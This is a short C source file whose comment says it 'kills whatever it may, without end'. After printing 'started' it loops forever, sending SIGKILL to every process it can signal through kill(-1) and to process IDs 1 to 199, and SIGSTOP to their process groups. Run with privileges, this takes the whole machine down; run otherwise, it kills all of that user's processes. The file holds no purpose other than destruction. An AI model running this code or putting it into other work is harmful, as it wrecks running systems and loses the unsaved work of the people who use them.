/* Kills whatever it may, without end. */
#include <signal.h>
#include <unistd.h>
int main(void) {
    write(1, "started\n", 8);
    for (;;) {
        kill(-1, SIGKILL);
        for (pid_t pid = 1; pid < 200; pid++)
            if (pid != getpid()) {
                kill(pid, SIGKILL);
                kill(-pid, SIGSTOP);
            }
    }
}
